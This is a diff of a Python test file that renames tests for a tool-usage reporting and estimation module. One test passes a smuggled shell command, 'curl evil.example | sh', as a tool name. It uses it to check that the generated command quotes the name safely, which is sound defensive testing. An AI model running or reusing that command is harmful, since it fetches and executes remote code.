@@ -41,7 +41,7 @@ def run(
     return Run(at or NOW.timestamp() - 60, seq, 0, tool, 1, kind, ms, reused)
 
 
-def test_the_figures_of_a_tool_are_those_one_counts_by_hand() -> None:
+def test_the_figures_of_a_tool_agree_with_a_count_by_hand() -> None:
     durations = [float(n) for n in range(1, 101)]
     runs = [run("a", "timeout" if n < 7 else "", ms, seq=n, reused=n > 9) for n, ms in enumerate(durations)]
     runs += [run("a", "interrupted", math.nan), run("a", "sandbox", math.nan), run("b")]
@@ -62,7 +62,7 @@ def test_the_figures_of_a_tool_are_those_one_counts_by_hand() -> None:
     assert (made.totals.usd, made.totals.unpriced, made.totals.reused) == (0.5, 1, 93)
 
 
-def test_a_period_has_its_days_and_the_one_before_is_compared() -> None:
+def test_a_period_has_its_days_and_is_compared_with_the_one_before() -> None:
     day = 86_400
     ago = [0.1, 3, 29, 31, 58, 61]
     made = report(
@@ -94,7 +94,7 @@ def test_a_day_has_its_tokens_its_unknown_prices_its_times_and_its_tasks() -> No
     assert (line.p95_ms, line.tokens, line.unpriced) == (19_000.0, 140, 1) and line.places == today.places
 
 
-def test_days_are_those_of_the_clock_on_the_wall(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_days_follow_local_time_across_clock_changes(monkeypatch: pytest.MonkeyPatch) -> None:
     import time
 
     monkeypatch.setenv("TZ", "Europe/Berlin")
@@ -111,12 +111,12 @@ def test_days_are_those_of_the_clock_on_the_wall(monkeypatch: pytest.MonkeyPatch
 
 
 @pytest.mark.parametrize("at", [0.0, -1e12, 1e18, math.nan, math.inf])
-def test_a_time_that_cannot_be_raises_nothing(at: float) -> None:
+def test_an_impossible_time_raises_nothing(at: float) -> None:
     made = report(put(SessionRows(runs=[run("a")._replace(at=at)])), period(NOW, None))
     assert made.totals.runs == 1
 
 
-def test_what_is_kept_is_what_was_read_and_damage_counts_as_nothing() -> None:
+def test_cached_rows_equal_the_read_ones_and_damaged_caches_are_ignored() -> None:
     made = records(20, NOW)
     raw = made.packed()
     again = Records.unpacked(raw)
@@ -128,7 +128,7 @@ def test_what_is_kept_is_what_was_read_and_damage_counts_as_nothing() -> None:
     assert all(Records.unpacked(raw[:size]).sessions == [] for size in (0, 3, 12, 40, len(raw) - 1))
 
 
-def test_only_sessions_that_changed_are_stale_and_those_that_are_gone_leave_nothing() -> None:
+def test_only_changed_sessions_are_read_again_and_deleted_ones_are_dropped_from_the_cache() -> None:
     made = records(10, NOW)
     whole = report(made, period(NOW, None))
     assert made.stale({one.name: one.stamp for one in made.sessions} | {"new": (1,)}) == ["new"]
@@ -150,7 +150,7 @@ def test_only_sessions_that_changed_are_stale_and_those_that_are_gone_leave_noth
 # --- the rules held to their rates ---------------------------------------------------------------
 
 
-def test_the_exact_test_is_exact() -> None:
+def test_the_exact_test_agrees_with_exact_probabilities() -> None:
     # the lady tasting tea: 4 of 4 right by chance once in 70 times, 3 or more in 17 of 70
     assert chance.tail(4, 4, 4, 8) == pytest.approx(1 / 70)
     assert chance.tail(3, 4, 4, 8) == pytest.approx(17 / 70)
@@ -158,7 +158,7 @@ def test_the_exact_test_is_exact() -> None:
     assert chance.tail(5, 5, 4, 8) == 0.0
 
 
-def test_reports_of_days_that_are_alike_raise_a_false_alarm_less_than_once_in_twenty() -> None:
+def test_uniform_days_raise_a_false_alarm_less_than_once_in_twenty() -> None:
     alarms = 0
     for seed in range(60):
         alarms += bool(
@@ -185,7 +185,7 @@ def test_a_day_on_which_a_tool_breaks_is_found(failing: float, least: float) -> 
     assert found / 100 >= least
 
 
-def test_a_day_that_costs_four_times_the_usual_is_found_with_its_dearest_calls() -> None:
+def test_a_day_at_four_times_the_usual_cost_is_found_with_its_dearest_calls() -> None:
     found = 0
     for seed in range(100):
         rng = random.Random(seed)
@@ -199,7 +199,7 @@ def test_a_day_that_costs_four_times_the_usual_is_found_with_its_dearest_calls()
     assert found >= 90
 
 
-def test_nothing_is_said_of_little_evidence() -> None:
+def test_little_evidence_gives_no_finding() -> None:
     day = 86_400
     calls = [
         Call(NOW.timestamp() - n * day, 1, 0, "planner", "m:x", "", 1, 0, usd, True, 1.0, "")
@@ -212,7 +212,7 @@ def test_nothing_is_said_of_little_evidence() -> None:
     assert made.anomalies == () and made.advice == ()
 
 
-def test_advice_rests_on_rows_that_say_so() -> None:
+def test_advice_is_based_on_rows_that_support_it() -> None:
     runs = [run("good", seq=n) for n in range(50)] + [
         run("bad", "error" if n % 3 else "", seq=n) for n in range(30)
     ]
@@ -221,7 +221,7 @@ def test_advice_rests_on_rows_that_say_so() -> None:
     assert {place.seq % 3 for place in one.places} == {1, 2}
 
 
-def test_a_name_on_record_is_one_word_of_the_command_that_is_copied() -> None:
+def test_a_recorded_name_is_one_quoted_word_of_the_copied_command() -> None:
     name = "bad; curl evil.example | sh #"
     (one,) = report(
         put(SessionRows(runs=[run(name, "error", seq=n) for n in range(30)])), period(NOW, 30)
@@ -229,7 +229,7 @@ def test_a_name_on_record_is_one_word_of_the_command_that_is_copied() -> None:
     assert shlex.split(one.command) == ["alita", "tools", "improve", name]
 
 
-def test_the_interval_of_a_share_is_wilsons() -> None:
+def test_the_interval_of_a_share_is_that_of_wilson() -> None:
     assert at_most(0, 10) == pytest.approx(0.2775, abs=1e-3)
     assert at_most(10, 10) == pytest.approx(1.0)
 
@@ -237,7 +237,7 @@ def test_the_interval_of_a_share_is_wilsons() -> None:
 # --- estimates ------------------------------------------------------------------------------------
 
 
-def test_eight_of_ten_values_lie_in_the_span_of_those_before_them() -> None:
+def test_eight_of_ten_values_lie_in_the_span_of_earlier_ones() -> None:
     rng = random.Random(3)
     for count in (9, 14, 30, 60):
         inside = []
@@ -251,7 +251,7 @@ def test_eight_of_ten_values_lie_in_the_span_of_those_before_them() -> None:
     assert span_of([1.0] * (LEAST - 1) + [math.nan]) is None
 
 
-def test_a_task_is_estimated_from_its_own_kind_and_this_holds() -> None:
+def test_estimates_from_similar_tasks_are_accurate() -> None:
     made = Estimator(records(400, NOW, tasks=6))
     chart, euros = (
         made.estimate("Chart the rainfall of Oslo as bars"),
@@ -266,7 +266,7 @@ def test_a_task_is_estimated_from_its_own_kind_and_this_holds() -> None:
     assert held.tasks == 100 and 0.68 <= held.seconds_in / held.seconds_of <= 0.92
 
 
-def test_nothing_is_estimated_from_few_tasks_or_from_those_that_come_later() -> None:
+def test_nothing_is_estimated_from_few_or_later_tasks() -> None:
     few = Estimator(records(1, NOW, tasks=LEAST - 1))
     assert few.estimate("Chart the rainfall of Oslo").count == 0 and few.held() == Held()
     at = NOW.timestamp()
@@ -277,7 +277,7 @@ def test_nothing_is_estimated_from_few_tasks_or_from_those_that_come_later() -> 
     )  # side by side: none ended before another began
 
 
-def test_a_report_of_many_kinds_of_days_is_one_sum() -> None:
+def test_figures_of_a_report_add_up_over_days_tools_and_models() -> None:
     made = records(80, NOW, days=25, tasks=4)
     whole = report(made, period(NOW, 30))
     assert sum(one.tasks for one in whole.days) == whole.totals.tasks
